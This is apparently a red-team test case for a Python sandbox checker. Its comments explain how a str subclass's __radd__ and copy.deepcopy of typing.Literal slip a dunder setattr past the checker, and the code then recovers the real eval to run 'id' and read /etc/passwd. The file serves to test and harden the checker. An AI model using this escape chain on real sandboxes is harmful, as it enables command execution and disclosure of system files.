# expect: reject builtin
# why: twenty-third red team, round c: "_o" + k where k's class has __radd__ answering "__reduce_ex__"/"__setattr__": the written start "_o" is not what the interpreter builds, so the name may be a dunder and needs a judged source
# line: 43
# goal: the REAL builtin `eval` as a value (typing's __builtins__ dict indexed), then runs `id`
#   and reads /etc/passwd through it (no `open`/`eval`/`exec` name is called by the program).
# mechanism: (1)+(3) a run-time-named setattr on self of a closed class whose name is
#   `"_o" + k`, with k an instance of a str SUBCLASS defining __radd__: str has no __add__
#   slot that wins here -- a right operand whose type is a subclass of the left's and
#   overrides the reflected method is asked FIRST, so "_o" + Key("x") is whatever
#   Key.__radd__ returns: "__reduce_ex__". The planted __reduce_ex__ is then run by
#   copy.deepcopy (instance dict lookup), which rebuilds typing.Literal["eval"] with
#   _name = "__builtins__"; the second deepcopy runs _GenericAlias.__reduce__ ->
#   operator.getitem(typing's globals()["__builtins__"], "eval") = the real eval
#   (round23b ok_07's chain).
# rule slipped: builtin (names.c wk_check_guarded, computed getattr/setattr names, the new
#   judged-source rule of 1a6db8f). The name has no letter prefix, so the code computes
#   leading_text(): "_o" (lead_len 2, lead[0] == '_', lead[1] != '_'), and the line
#       bool may_dunder = !(lead_len >= 2 && lead[0] == '_') && !loop_over_plain_names(...)
#   declares it "private, never a dunder", so the judged-source requirement never applies.
#   leading_text() concatenates the literal text of a `+` chain WITHOUT the
#   exact_str_operand() test that literal_prefix() applies since the eighteenth round
#   ("do_" + S(): the right operand's __radd__ answers the whole sum). So the fix for
#   "do_" + S() covers the letter-prefix path only; the "_x" + ... private exemption still
#   trusts a `+` whose right operand is any object. (getattr(self, "_o" + k) is accepted
#   the same way; on non-self receivers the separate prefix rule refuses it.)
# verify: safe-exec-check rc=0; python3 prints <built-in function eval>, the uid line of `id`,
#   and the first line of /etc/passwd.
import copy
import typing


class Key(str):
    def __radd__(self, other):
        return "--reduce-ex--".replace("-", "_")


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Box:
    def put(self, k, v):
        setattr(self, "_o" + k, v)


b = Box()
b.put(Key("x"), red)
ev = copy.deepcopy(copy.deepcopy(b))
print(ev)
ev("exec('import os; os.system(\"id\")')")
print(ev("open('/etc/passwd').read()").splitlines()[0])
